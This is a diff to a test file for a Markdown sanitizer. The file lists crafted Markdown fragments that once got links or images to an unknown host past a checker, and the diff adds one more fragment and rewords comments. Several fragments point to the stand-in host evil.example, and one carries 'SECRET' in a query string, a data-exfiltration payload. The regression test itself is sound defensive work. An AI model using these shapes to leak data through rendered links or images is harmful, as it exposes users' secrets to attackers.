@@ -2,7 +2,7 @@ import { expect, it } from 'vitest';
 import { propertyRuns } from '../support/property-runs.ts';
 import { checkDocuments, leaks, written } from '../suites/fuzz/links/check-documents.ts';
 
-/** Each of these once brought an image or a link to an unknown host past a checker that read Markdown by rules of its own. */
+/** Each of these once got an image or a link to an unknown host past a checker with its own Markdown rules. */
 const shapes = [
   '> ```\n![x](https://evil.example/p?q=SECRET)',
   '- ```\n\n![x](https://evil.example/p)',
@@ -26,6 +26,7 @@ const shapes = [
   '`x|![x](https://evil.example/p)`\n|-|-|',
   '| a | b |\n|---|---|\n| `x|![x](https://evil.example/p)` |',
   '[`[<a title="`">](HTTPS://evil.example/p)`](/a)',
+  '[a ``b`](https://evil.example/p)`` c](/a)',
   '``a`b`<b>`![x](https://evil.example/p)`',
   '`a`<b>``b`[x](https://evil.example/p)``',
   'x\n:-:\n`a<form action="https://evil.example/p">|`',
@@ -41,6 +42,6 @@ it.each(shapes)('lets no address out of %j', (shape) => {
   expect(leaks(written([...shape]))).toEqual([]);
 });
 
-it('lets no reader find an unknown address in what left, nor miss a known one', () => {
+it('lets no reader find an unknown address in the output, nor lose a known one', () => {
   expect(checkDocuments({ first: 0, count: propertyRuns(150), seed: 1 })).toEqual([]);
 });
